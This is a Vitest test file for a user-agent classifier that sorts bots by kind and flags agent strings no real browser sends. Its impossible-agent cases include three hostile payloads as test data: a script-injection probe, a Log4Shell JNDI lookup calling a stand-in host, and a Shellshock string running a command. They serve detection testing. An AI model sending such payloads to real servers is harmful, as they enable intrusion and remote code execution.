import { expect, test } from "vitest";
import { botKindOf, isBotAgent, isImpossibleAgent } from "./bots.ts";

const phone = (model: string): string =>
  `Mozilla/5.0 (Linux; Android 10; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Mobile Safari/537.36`;

test.each([
  phone("CUBOT_P20 Build/PPR1.180610.011"),
  phone("M bot 60 Build/QP1A"),
  phone("M bot 60"),
])("C41: a person's phone stays one, whatever its model is called: %s", (userAgent) => {
  expect(botKindOf(userAgent)).toBeNull();
});

test("C41: a bot that says it is a phone is a bot all the same", () => {
  const crawler = `${phone("Nexus 5X Build/MMB29P")} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`;
  expect(botKindOf(crawler)).toBe("search");
});

test.each([
  [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0; +https://openai.com/bot)",
    "ai",
  ],
  ["claude-web/1.0", "ai"],
  [
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)",
    "ai",
  ],
  ["Mozilla/5.0 (compatible;PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", "search"],
  [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Chrome-Lighthouse",
    "tool",
  ],
] as const)("C44: %s is of the kind %s", (userAgent, kind) => {
  expect(botKindOf(userAgent)).toBe(kind);
});

test.each([
  ["facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "social preview"],
  ["Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "monitor"],
  [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/130.0.0.0 Safari/537.36",
    "headless",
  ],
  ["curl/8.5.0", "library"],
  ["python-requests/2.32", "library"],
  ["Mozilla/5.0 (compatible; NobodyHasHeardOfThis-bot/0.1)", "other"],
] as const)("%s is of the kind %s", (userAgent, kind) => {
  expect(botKindOf(userAgent)).toBe(kind);
});

test("who is a person has no kind, also where no user agent is known", () => {
  const firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
  for (const userAgent of [firefox, undefined]) {
    expect(isBotAgent(userAgent)).toBe(false);
    expect(botKindOf(userAgent)).toBeNull();
  }
});

test.each([
  "",
  "   ",
  "<script>alert(1)</script>",
  "${jndi:ldap://x.example/a}",
  "() { :; }; /bin/ping -c 1 x.example",
  "Mozilla/5.0 (Windows NT 10.0; iPhone; Win64) AppleWebKit/605.1.15",
  "Mozilla/5.0 (Windows NT 12.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/9999.0.0.0 Safari/537.36",
])("no browser sends %j", (userAgent) => {
  expect(isImpossibleAgent(userAgent)).toBe(true);
});

test.each([
  phone("K"),
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.31.103;FBDV/iPhone15,2;FBID/phone]",
  "Mozilla/5.0 (Mobile; Windows Phone 8.1; Android 4.0; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 520) like iPhone OS 7_0_3 Mac OS X AppleWebKit/537 (KHTML, like Gecko) Mobile Safari/537",
  "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; AS; rv:11.0) like Gecko",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 11.6; rv:95.0) Gecko/20100101 Firefox/95.0",
  "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80) Presto/2.12.423 Version/12.16",
  "UCWEB/2.0 (MIDP-2.0; U; Adr 9.0.0; en_US) U2/1.0.0 UCBrowser/10.9",
])("a browser, however odd, is one: %s", (userAgent) => {
  expect(isImpossibleAgent(userAgent)).toBe(false);
});
